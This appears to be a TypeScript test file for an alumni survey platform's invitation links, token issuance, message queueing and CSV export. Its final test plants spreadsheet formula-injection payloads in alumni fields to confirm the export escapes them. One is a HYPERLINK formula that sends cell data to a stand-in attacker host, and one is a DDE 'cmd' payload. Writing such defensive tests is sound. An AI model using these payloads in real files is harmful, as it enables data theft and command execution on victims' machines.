import { createHash, randomBytes } from "node:crypto";
import { eq, sql } from "drizzle-orm";
import { beforeEach, describe, expect, it } from "vitest";
import type { Db } from "@/db/client";
import { alumni, auditLog, invitations, outbox, responses } from "@/db/schema";
import { col, one, queryRows } from "@/db/query";
import { blindToken, finalizeToken, fromBase64, prepareToken, toBase64 } from "@/server/shared/anonymity/client";
import { issueForInvitation } from "../anonymity/issue";
import { publicKeysFor } from "../anonymity/targetkeys";
import { closeCampaign } from "../campaigns/campaigns";
import {
  BASE_URL,
  CLOSES,
  DURING,
  employerCampaign,
  endOfTermCampaign,
  graduateCampaign,
  invitationTokenFor,
  invitationsOf,
  LATER,
  linkTokens,
  OPENS,
  SECRET,
  submit,
  tableText,
  trackingData,
  type Tracking,
} from "../test/collection";
import { freshSchool, type School, sessionOf } from "../test/fixtures";
import { createInvitations, exportInvitationLinks, invitationToken, resolveInvitation, sendInvitations } from "./invitations";
import { expectDomainError } from "../test/errors";
import { at, atKey } from "@/server/shared/indexed";

let db: Db;
let s: School;
let t: Tracking;

beforeEach(async () => {
  ({ db, s } = await freshSchool());
  t = await trackingData(db, s);
});

const sha256 = (v: string) => createHash("sha256").update(v, "utf8").digest("hex");
const tokenOf = (inv: { nonce: string }) => invitationToken(SECRET, inv.nonce);
const notFound = (p: Promise<unknown>) => expectDomainError(p, { kind: "NOT_FOUND", code: "respond.submit.errors.invitationNotFound" });
const quality = () => sessionOf(db, s.people.quality);

/** Every table's rows as text, joined (to look for a secret anywhere in the database). */
async function wholeDatabase() {
  const tables = await queryRows(db, { tablename: col.text }, sql`select tablename from pg_tables where schemaname = 'public'`);
  return (await Promise.all(tables.map((x) => tableText(db, x.tablename)))).join("\n");
}

/** A minimal CSV reader (quoted cells with doubled quotes, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += ch;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

describe("createInvitations", () => {
  it("one per alumnus of each surveyed cohort, expiring when the campaign closes; idempotent", async () => {
    const g = await graduateCampaign(db, s);
    expect(await createInvitations(db, g.id, SECRET)).toEqual({ created: 5, total: 5 });
    expect(await createInvitations(db, g.id, SECRET)).toEqual({ created: 0, total: 5 });
    const inv = await invitationsOf(db, g.id);
    expect(inv.map((i) => i.alumnusId).sort()).toEqual([t.a1.id, t.a2.id, t.a3.id, t.a4.id, t.b1.id].sort());
    expect(inv.every((i) => i.contactId === null && i.sentOn === null && i.tokenIssuedOn === null)).toBe(true);
    expect(inv.map((i) => i.expiresAt.toISOString())).toEqual(inv.map(() => CLOSES.toISOString()));
    // An alumnus added to a surveyed cohort later gets one on the next call.
    await db.insert(alumni).values({ cohortId: t.cohortB.id, studentNumber: "2022102", name: "校友己" });
    expect(await createInvitations(db, g.id, SECRET)).toEqual({ created: 1, total: 6 });
  });

  it("employer tracking: one per contact of each surveyed employer", async () => {
    const e = await employerCampaign(db, s, t);
    expect(await createInvitations(db, e.id, SECRET)).toEqual({ created: 3, total: 3 });
    const inv = await invitationsOf(db, e.id);
    expect(inv.map((i) => i.contactId).sort()).toEqual([t.c1.id, t.c2.id, t.c3.id].sort());
    expect(inv.every((i) => i.alumnusId === null)).toBe(true);
  });

  it("link tokens are 43 base64url characters (256 bits), distinct; the database holds only their hash and the nonce", async () => {
    const g = await graduateCampaign(db, s);
    await sendInvitations(db, await quality(), g.id, SECRET, DURING);
    const inv = await invitationsOf(db, g.id);
    const tokens = inv.map(tokenOf);
    for (const [i, tok] of tokens.entries()) {
      expect(tok).toMatch(/^[A-Za-z0-9_-]{43}$/);
      expect(Buffer.from(tok, "base64url")).toHaveLength(32);
      expect(at(inv, i).tokenHash).toBe(sha256(tok));
      expect(Buffer.from(at(inv, i).nonce, "base64url").length).toBeGreaterThanOrEqual(16);
    }
    expect(new Set(tokens).size).toBe(tokens.length);
    expect(new Set(inv.map((i) => i.nonce)).size).toBe(inv.length);
    const everything = await wholeDatabase();
    for (const tok of tokens) expect(everything.includes(tok)).toBe(false);
    expect(everything.includes("/i/")).toBe(false);
    // Without the server secret the nonce gives no working link.
    await notFound(resolveInvitation(db, invitationToken("another-secret-0123456789abcdef", at(inv, 0).nonce), DURING));
  });
});

describe("resolveInvitation and issueForInvitation", () => {
  let g: Awaited<ReturnType<typeof graduateCampaign>>;
  let inv: Awaited<ReturnType<typeof invitationsOf>>;
  const of = (a: { id: number }) => one(inv.filter((i) => i.alumnusId === a.id));

  beforeEach(async () => {
    g = await graduateCampaign(db, s);
    await createInvitations(db, g.id, SECRET);
    inv = await invitationsOf(db, g.id);
  });

  it("unknown and malformed tokens are not found", async () => {
    for (const bad of [
      "",
      "abc",
      "!".repeat(43),
      `${tokenOf(at(inv, 0))}A`,
      tokenOf(at(inv, 0)).slice(1),
      randomBytes(32).toString("base64url"),
    ]) {
      await notFound(resolveInvitation(db, bad, DURING));
    }
  });

  it("a ready link gives the survey; obtaining the token uses it up; the answers are stored as the alumni group's", async () => {
    const i1 = of(t.a1);
    expect(await resolveInvitation(db, tokenOf(i1), DURING)).toEqual({
      invitationId: i1.id,
      targetId: i1.targetId,
      campaignId: g.id,
      campaignName: "2026届毕业生跟踪调查",
      closesAt: CLOSES,
      versionId: g.versionId,
      targetLabel: "软件工程 2026届",
      state: "ready",
    });
    const tok = await invitationTokenFor(db, i1.id, DURING);
    expect((await resolveInvitation(db, tokenOf(i1), DURING)).state).toBe("used");
    expect((await db.select().from(invitations).where(eq(invitations.id, i1.id)))[0]?.tokenIssuedOn).toBe("2026-12-28");
    await expectDomainError(invitationTokenFor(db, i1.id, DURING), { kind: "CONFLICT", code: "respond.submit.errors.invitationUsed" });
    // Another alumnus's link is untouched.
    expect((await resolveInvitation(db, tokenOf(of(t.a2)), DURING)).state).toBe("ready");

    expect(await submit(db, tok, { q1: 3 })).toEqual({ status: "stored" });
    expect(await submit(db, tok, { q1: 1 })).toEqual({ status: "duplicate" });
    await closeCampaign(db, g.id, LATER, null, SECRET);
    const rows = await db.select().from(responses);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      targetId: i1.targetId,
      raterGroup: "alumni",
      instrumentVersionId: g.versionId,
      answers: { q1: 3 },
      declined: false,
    });
    // Nothing on the invitation side names the response.
    expect(await tableText(db, "invitations")).not.toContain(at(rows, 0).spentTokenHash);
  });

  it("employer contacts' answers are stored as the employer group's with the employer instrument", async () => {
    const e = await employerCampaign(db, s, t);
    await createInvitations(db, e.id, SECRET);
    const c1 = one((await invitationsOf(db, e.id)).filter((i) => i.contactId === t.c1.id));
    const r = await resolveInvitation(db, tokenOf(c1), DURING);
    expect(r).toMatchObject({ campaignId: e.id, versionId: e.versionId, targetLabel: "甲科技有限公司", state: "ready" });
    expect(await submit(db, await invitationTokenFor(db, c1.id), { declined: true })).toEqual({ status: "stored" });
    await closeCampaign(db, e.id, LATER, null, SECRET);
    expect(await db.select().from(responses)).toMatchObject([
      { targetId: c1.targetId, raterGroup: "employer", instrumentVersionId: e.versionId, declined: true, answers: {} },
    ]);
  });

  it("concurrent issuance for one link gives exactly one signature", async () => {
    const i1 = of(t.a1);
    const pk = atKey(await publicKeysFor(db, [i1.targetId]), i1.targetId);
    const attempts = await Promise.all(
      [1, 2, 3, 4].map(async () => {
        const token = prepareToken();
        return { token, ...(await blindToken(pk, token)) };
      }),
    );
    const results = await Promise.allSettled(
      attempts.map((a) => issueForInvitation(db, { invitationId: i1.id, blindedMsg: toBase64(a.blindedMsg) }, DURING, SECRET)),
    );
    const ok = results.flatMap((r, i) => (r.status === "fulfilled" ? [{ r: r.value, a: at(attempts, i) }] : []));
    expect(ok).toHaveLength(1);
    for (const r of results) {
      if (r.status === "rejected") expect(r.reason).toMatchObject({ kind: "CONFLICT", code: "respond.submit.errors.invitationUsed" });
    }
    const { r, a } = at(ok, 0);
    await finalizeToken(pk, a.token, fromBase64(at(r.signatures, 0).blindSig), a.inv); // throws unless valid
  });

  it("a bad blinded message or an unknown invitation is refused and leaves the link usable", async () => {
    const i1 = of(t.a1);
    await expectDomainError(
      issueForInvitation(db, { invitationId: i1.id, blindedMsg: toBase64(new Uint8Array(300).fill(255)) }, DURING, SECRET),
      { kind: "BAD_REQUEST", code: "respond.submit.errors.invalidBlindedMessage" },
    );
    await expectDomainError(
      issueForInvitation(db, { invitationId: 999_999, blindedMsg: toBase64(new Uint8Array(256).fill(1)) }, DURING, SECRET),
      { kind: "NOT_FOUND", code: "respond.submit.errors.invitationNotFound" },
    );
    await expectDomainError(issueForInvitation(db, { invitationId: i1.id, blindedMsg: "" }, DURING, SECRET), {
      kind: "BAD_REQUEST",
      code: "respond.submit.errors.invalidRequest",
    });
    expect((await resolveInvitation(db, tokenOf(i1), DURING)).state).toBe("ready");
  });

  it("outside the window, after expiry or once the campaign is closed: state closed and no token", async () => {
    const i1 = of(t.a1);
    const closed = async (now: Date) => {
      expect((await resolveInvitation(db, tokenOf(i1), now)).state).toBe("closed");
      await expectDomainError(invitationTokenFor(db, i1.id, now), { kind: "CONFLICT", code: "respond.submit.errors.campaignClosed" });
    };
    await closed(new Date(OPENS.getTime() - 1000));
    await closed(CLOSES);
    // This link expired early (the campaign itself is still open).
    await db
      .update(invitations)
      .set({ expiresAt: new Date(DURING.getTime() - 1000) })
      .where(eq(invitations.id, i1.id));
    await closed(DURING);
    expect((await resolveInvitation(db, tokenOf(of(t.a2)), DURING)).state).toBe("ready");
    await closeCampaign(db, g.id, LATER);
    const i2 = of(t.a2);
    expect((await resolveInvitation(db, tokenOf(i2), LATER)).state).toBe("closed");
    await expectDomainError(invitationTokenFor(db, i2.id, LATER), { kind: "CONFLICT", code: "respond.submit.errors.campaignClosed" });
    expect((await db.select().from(invitations)).every((i) => i.tokenIssuedOn === null)).toBe(true);
  });
});

describe("sendInvitations", () => {
  const outboxRows = () => db.select().from(outbox).orderBy(outbox.recipient);

  it("queues one message per invitation with a contact (e-mail first, else SMS), marks it sent; idempotent; audited", async () => {
    const g = await graduateCampaign(db, s);
    expect(await sendInvitations(db, await quality(), g.id, SECRET, DURING)).toEqual({ created: 5, total: 5, queued: 4, noContact: 1 });
    const rows = await outboxRows();
    expect(rows.map((r) => [r.channel, r.kind, r.recipient, r.status, r.campaignId])).toEqual([
      ["sms", "invitation", "13800000002", "pending", g.id],
      ["email", "invitation", "a1@alumni.example.com", "pending", g.id],
      ["email", "invitation", "a4@alumni.example.com", "pending", g.id],
      ["email", "invitation", "b1@alumni.example.com", "pending", g.id],
    ]);
    const inv = await invitationsOf(db, g.id);
    for (const r of rows) {
      const i = inv.find((x) => r.body.includes(`{{link:${x.nonce}}}`));
      expect(i, r.recipient).toBeDefined();
      if (i === undefined) throw new Error(`no invitation's link in the mail to ${r.recipient}`);
      expect(r.body).not.toContain(tokenOf(i));
      expect(r.body).not.toContain("/i/");
      expect(r.subject).toBe(g.name);
    }
    expect(
      inv
        .filter((i) => i.sentOn !== null)
        .map((i) => i.alumnusId)
        .sort(),
    ).toEqual([t.a1.id, t.a2.id, t.a4.id, t.b1.id].sort());
    expect(inv.find((i) => i.alumnusId === t.a1.id)?.sentOn).toBe("2026-12-28");
    expect(one(inv.filter((i) => i.alumnusId === t.a3.id)).sentOn).toBeNull();

    expect(await sendInvitations(db, await quality(), g.id, SECRET, LATER)).toEqual({ created: 0, total: 5, queued: 0, noContact: 1 });
    expect(await outboxRows()).toHaveLength(4);
    const audit = await db.select().from(auditLog).where(eq(auditLog.action, "campaign.invitations.send"));
    expect(audit.map((a) => [a.actorId, a.subject])).toEqual([
      [s.people.quality.id, `campaign ${g.id}`],
      [s.people.quality.id, `campaign ${g.id}`],
    ]);
  });

  it("employer contacts: e-mail, else SMS, none without an address", async () => {
    const e = await employerCampaign(db, s, t);
    expect(await sendInvitations(db, await quality(), e.id, SECRET, DURING)).toMatchObject({ queued: 2, noContact: 1 });
    expect((await outboxRows()).map((r) => [r.channel, r.recipient])).toEqual([
      ["sms", "13900000002"],
      ["email", "hr@e1.example.com"],
    ]);
  });

  it("a link already used is not sent", async () => {
    const g = await graduateCampaign(db, s);
    await createInvitations(db, g.id, SECRET);
    const i1 = one((await invitationsOf(db, g.id)).filter((i) => i.alumnusId === t.a1.id));
    await invitationTokenFor(db, i1.id);
    expect(await sendInvitations(db, await quality(), g.id, SECRET, DURING)).toMatchObject({ queued: 3 });
    expect((await outboxRows()).map((r) => r.recipient)).not.toContain("a1@alumni.example.com");
  });

  it("two concurrent sends queue each invitation once", async () => {
    const g = await graduateCampaign(db, s);
    await createInvitations(db, g.id, SECRET);
    const q = await quality();
    const results = await Promise.all([1, 2, 3].map(() => sendInvitations(db, q, g.id, SECRET, DURING)));
    expect(results.reduce((n, r) => n + r.queued, 0)).toBe(4);
    expect((await outboxRows()).map((r) => r.recipient)).toEqual([
      "13800000002",
      "a1@alumni.example.com",
      "a4@alumni.example.com",
      "b1@alumni.example.com",
    ]);
  });

  it("refuses other kinds, closed campaigns and actors outside the campaign's scope; nothing queued", async () => {
    const g = await graduateCampaign(db, s);
    const eot = await endOfTermCampaign(db, s);
    await expectDomainError(sendInvitations(db, await quality(), eot.id, SECRET, DURING), {
      kind: "BAD_REQUEST",
      code: "campaigns.errors.noInvitations",
    });
    await expectDomainError(sendInvitations(db, await sessionOf(db, s.people.adminA), g.id, SECRET, DURING), {
      kind: "FORBIDDEN",
      code: "campaigns.errors.outsideScope",
    });
    await expectDomainError(sendInvitations(db, await sessionOf(db, s.people.teacherA), g.id, SECRET, DURING), {
      kind: "FORBIDDEN",
      code: "campaigns.errors.forbidden",
    });
    await expectDomainError(sendInvitations(db, await sessionOf(db, s.people.hr), g.id, SECRET, DURING), {
      kind: "FORBIDDEN",
      code: "campaigns.errors.forbidden",
    });
    await expectDomainError(sendInvitations(db, await quality(), 999_999, SECRET, DURING), {
      kind: "NOT_FOUND",
      code: "campaigns.errors.notFound",
    });
    await closeCampaign(db, g.id, LATER);
    await expectDomainError(sendInvitations(db, await quality(), g.id, SECRET, LATER), {
      kind: "CONFLICT",
      code: "campaigns.errors.notOpen",
    });
    expect(await outboxRows()).toEqual([]);
    expect(await db.select().from(invitations)).toEqual([]);
  });

  it("a unit admin sends its own unit's wave, and only its own", async () => {
    const g = await graduateCampaign(db, s, { actorId: s.people.adminA.id, scopeUnitId: s.unitA.id });
    await expectDomainError(sendInvitations(db, await sessionOf(db, s.people.adminB), g.id, SECRET, DURING), {
      kind: "FORBIDDEN",
      code: "campaigns.errors.outsideScope",
    });
    // Only 软件工程's cohort is in college A's wave.
    expect(await sendInvitations(db, await sessionOf(db, s.people.adminA), g.id, SECRET, DURING)).toEqual({
      created: 4,
      total: 4,
      queued: 3,
      noContact: 1,
    });
  });
});

describe("exportInvitationLinks", () => {
  it("CSV with BOM and header, one row per invitation; unused rows carry a working link, used ones none; audited", async () => {
    const g = await graduateCampaign(db, s);
    await sendInvitations(db, await quality(), g.id, SECRET, DURING);
    const inv = await invitationsOf(db, g.id);
    await invitationTokenFor(db, one(inv.filter((i) => i.alumnusId === t.b1.id)).id);
    const csv = await exportInvitationLinks(db, await quality(), g.id, SECRET, `${BASE_URL}/`);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const [header, ...rows] = parseCsv(csv.slice(1));
    expect(header).toEqual(["类型", "姓名", "届别/单位", "邮箱", "手机", "微信", "个人链接", "已发送", "已使用"]);
    expect(rows).toHaveLength(inv.length);
    const byName = new Map(rows.map((r) => [r[1], r]));
    expect([...byName.keys()].sort()).toEqual([t.a1, t.a2, t.a3, t.a4, t.b1].map((a) => a.name).sort());
    expect(byName.get(t.a1.name)?.slice(0, 6)).toEqual([
      "毕业生",
      "校友甲",
      "软件工程 2026届",
      "a1@alumni.example.com",
      "13800000001",
      "wx_a1",
    ]);
    for (const r of rows) {
      const [kind, name, , , , , link, sent, used] = r;
      if (link === undefined) throw new Error(`a row of ${r.length} columns`);
      expect(kind).toBe("毕业生");
      const alumnus = one([t.a1, t.a2, t.a3, t.a4, t.b1].filter((a) => a.name === name));
      const i = one(inv.filter((x) => x.alumnusId === alumnus.id));
      expect(sent).toBe(alumnus.id === t.a3.id ? "" : "2026-12-28");
      if (alumnus.id === t.b1.id) {
        expect([link, used]).toEqual(["", "是"]);
        continue;
      }
      expect(used).toBe("否");
      const token = at(linkTokens(link), 0);
      expect(link).toBe(`${BASE_URL}/i/${token}`);
      expect(await resolveInvitation(db, token, DURING)).toMatchObject({ invitationId: i.id, state: "ready" });
    }
    const audit = await db.select().from(auditLog).where(eq(auditLog.action, "campaign.invitations.export"));
    expect(audit).toMatchObject([{ actorId: s.people.quality.id, subject: `campaign ${g.id}`, detail: { rows: 5 } }]);
    await expectDomainError(exportInvitationLinks(db, await sessionOf(db, s.people.adminB), g.id, SECRET, BASE_URL), {
      kind: "FORBIDDEN",
      code: "campaigns.errors.outsideScope",
    });
    expect(await db.select().from(auditLog).where(eq(auditLog.action, "campaign.invitations.export"))).toHaveLength(1);
  });

  it("a cell that a spreadsheet would run as a formula is exported as text; phone numbers stay as they are", async () => {
    await db.update(alumni).set({ name: '=HYPERLINK("https://evil.example/?"&A1,"点我")', wechat: "@cmd" }).where(eq(alumni.id, t.a1.id));
    await db.update(alumni).set({ name: "-2+3+cmd|' /C calc'!A0", phone: "+86 138-0000-0004" }).where(eq(alumni.id, t.a4.id));
    const g = await graduateCampaign(db, s);
    await createInvitations(db, g.id, SECRET);
    const rows = parseCsv((await exportInvitationLinks(db, await quality(), g.id, SECRET, BASE_URL)).slice(1));
    const row1 = one(rows.filter((r) => at(r, 1).includes("HYPERLINK")));
    expect(row1[1]).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"点我")`);
    expect(row1[5]).toBe("'@cmd");
    const row4 = one(rows.filter((r) => at(r, 1).includes("calc")));
    expect(row4[1]).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(row4[4]).toBe("+86 138-0000-0004");
  });
});
